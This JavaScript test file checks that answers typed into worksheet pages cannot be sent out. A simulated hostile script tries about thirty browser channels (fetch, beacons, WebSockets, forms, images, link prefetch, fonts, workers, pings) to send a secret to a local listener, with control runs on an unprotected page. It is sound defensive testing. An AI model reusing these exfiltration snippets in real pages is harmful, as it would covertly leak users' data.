// What is typed into a sheet cannot be sent: a hostile script in the page tries every way it can think of, from the disk
// and from a web host, while a listener elsewhere and the host itself write down who asks them for anything.

import assert from 'node:assert/strict';
import { createReadStream } from 'node:fs';
import { createServer } from 'node:http';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { closeBrowser, withPage } from './browser.mjs';
import { sites } from './pages.mjs';
import { until } from './until.mjs';

const SECRET = 'name-of-a-real-person';

// Each way of sending, run in the page with the listener's address and the secret.
const WAYS = {
  fetch: (to) => fetch(to, { method: 'POST', mode: 'no-cors', body: to }),
  'fetch with keepalive': (to) => fetch(to, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: (to) => {
    const request = new XMLHttpRequest();
    request.open('GET', to);
    request.send();
  },
  beacon: (to) => navigator.sendBeacon(to, to),
  'event source': (to) => new EventSource(to),
  'web socket': (to) => new WebSocket(to.replace('http', 'ws')),
  form: (to) => {
    for (const method of ['get', 'post']) {
      const form = document.createElement('form');
      Object.assign(form, { action: to, method, target: '_blank' });
      document.body.append(form);
      form.submit();
    }
  },
  picture: (to) => { new Image().src = to; },
  'picture in the page': (to) => {
    const picture = document.createElement('img');
    picture.srcset = `${to} 1x`;
    document.body.append(picture);
  },
  icon: (to) => {
    document.querySelectorAll('link[rel="icon"]').forEach((icon) => icon.remove());
    const icon = document.createElement('link');
    Object.assign(icon, { rel: 'icon', href: to });
    document.head.append(icon);
  },
  ...Object.fromEntries(['prefetch', 'preload', 'modulepreload', 'dns-prefetch', 'preconnect', 'stylesheet', 'manifest', 'prerender'].map((rel) => [
    `link ${rel}`,
    `(to) => { const link = document.createElement('link'); link.rel = '${rel}'; link.as = 'image'; link.href = to; document.head.append(link); }`,
  ])),
  script: (to) => {
    const script = document.createElement('script');
    script.src = to;
    document.head.append(script);
  },
  'speculation rules': (to) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] });
    document.head.append(rules);
  },
  module: (to) => import(to),
  frame: (to) => {
    const frame = document.createElement('iframe');
    frame.src = to;
    document.body.append(frame);
  },
  'object and embed': (to) => {
    const object = document.createElement('object');
    object.data = to;
    const embed = document.createElement('embed');
    embed.src = to;
    document.body.append(object, embed);
  },
  'sound and film': (to) => {
    for (const name of ['audio', 'video']) {
      const media = document.createElement(name);
      Object.assign(media, { src: to, preload: 'auto', autoplay: true, muted: true });
      document.body.append(media);
    }
  },
  'style of an element': (to) => { document.body.style.backgroundImage = `url("${to}")`; },
  'style sheet made by script': (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { border-image: url("${to}") 1; cursor: url("${to}"), auto }`);
    document.adoptedStyleSheets = [sheet];
  },
  font: (to) => new FontFace('leak', `url("${to}")`).load(),
  worker: (to) => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`]))),
  ping: (to) => {
    const link = document.createElement('a');
    Object.assign(link, { href: '#main', ping: to });
    document.body.append(link);
    link.click();
  },
};

// Ways that do reach a listener when no policy forbids them, in a browser without a person at it.
const HEARD = [
  'fetch', 'fetch with keepalive', 'XMLHttpRequest', 'beacon', 'event source', 'web socket', 'form', 'picture', 'picture in the page',
  'link prefetch', 'link preload', 'link stylesheet', 'script', 'module', 'frame', 'object and embed', 'sound and film',
  'style of an element', 'font', 'worker', 'ping',
];

// The page's own address, where only the page's script and style may be asked for, and never with anything behind them.
const OWN_WAYS = ['fetch', 'XMLHttpRequest', 'beacon', 'event source', 'form', 'picture', 'icon', 'frame', 'style of an element', 'font', 'sound and film'];

const site = sites()[0];
const sheets = site.pages.filter(({ kind }) => kind === 'worksheets/*.html');
const heard = { listener: [], host: [] };
const servers = {};

before(async () => {
  servers.listener = await serve((request, response) => {
    heard.listener.push(`${request.method} ${request.url}`);
    response.end();
  });
  servers.listener.on('upgrade', (request, socket) => {
    heard.listener.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  servers.host = await serve((request, response) => {
    heard.host.push(request.url);
    if (request.url === '/open.html') return response.setHeader('content-type', 'text/html').end('<!DOCTYPE html><p>Open');
    const file = path.join(site.folder, path.normalize(new URL(request.url, 'http://x').pathname));
    const types = { '.html': 'text/html', '.css': 'text/css', '.js': 'text/javascript', '.svg': 'image/svg+xml' };
    response.setHeader('content-type', types[path.extname(file)] ?? 'text/plain');
    createReadStream(file).on('error', () => response.writeHead(404).end()).pipe(response);
  });
});

after(async () => {
  await closeBrowser();
  for (const server of Object.values(servers)) server.close();
});

describe('nothing that is typed leaves the page', { timeout: 900_000 }, () => {
  it('has sheets to try', () => assert.ok(sheets.length > 0));

  // The same attempts where nothing forbids them: else silence would prove nothing.
  for (const way of HEARD) {
    it(`the listener hears ${way} from a page without a policy`, async () => {
      const to = listener(`allowed?q=${SECRET}&way=${HEARD.indexOf(way)}.`);
      await withPage(`${origin(servers.host)}/open.html`, async (page) => {
        await attempt(page, way, to);
        await until(async () => heard.listener.some((line) => line.includes(new URL(to).search)), 'anything that was heard');
      });
    });
  }

  for (const from of ['disk', 'host']) {
    for (const way of Object.keys(WAYS)) {
      it(`${way}, from the ${from}`, async () => {
        await withPage(address(from), async (page) => {
          await type(page);
          await attempt(page, way, listener(`?q=${SECRET}&from=${from}&way=${encodeURIComponent(way)}`));
        });
        assert.deepEqual(heardOfSheets(), []);
      });
    }
  }

  it('the listener heard nothing later', () => assert.deepEqual(heardOfSheets(), []));

  it('the host itself hears no answer either', async () => {
    await withPage(address('host'), async (page) => {
      await type(page);
      heard.host.length = 0;
      for (const way of OWN_WAYS) await attempt(page, way, `${origin(servers.host)}/leak?q=${SECRET}`);
    });
    assert.deepEqual(heard.host.filter((line) => line.includes(SECRET)), []);
  });

  it('no answer stands in the address or the title', async () => {
    await withPage(address('host'), async (page) => {
      await type(page);
      const [words, url] = [await page.title(), page.url()];
      assert.ok(!words.includes(SECRET) && !url.includes(SECRET));
    });
  });
});

// What was heard, but for what a page without a policy sent: some of that comes late. The icon is asked for by a page that was asked
// for before, which would have been heard.
function heardOfSheets() {
  return heard.listener.filter((line) => !line.includes(' /allowed?') && line !== 'GET /favicon.ico');
}

// Tries one way. A way that is refused may throw; what counts is what the listener hears.
async function attempt(page, way, to) {
  const code = `(async () => { try { await (${WAYS[way].toString()})(${JSON.stringify(to)}); } catch {} })()`;
  await Promise.race([page.evaluate(code).catch(() => undefined), pause(500)]);
  await pause(120);
}

async function type(page) {
  const control = await page.$('main input[type="text"], main textarea');
  await control.type(SECRET);
}

function address(from) {
  return from === 'disk' ? sheets[0].url : `${origin(servers.host)}/${sheets[0].address}`;
}

function listener(more) {
  return `${origin(servers.listener)}/${more}`;
}

function origin(server) {
  return `http://127.0.0.1:${server.address().port}`;
}

function serve(answer) {
  const server = createServer(answer);
  return new Promise((resolve) => { server.listen(0, '127.0.0.1', () => resolve(server)); });
}

function pause(milliseconds) {
  return new Promise((resolve) => { setTimeout(resolve, milliseconds); });
}
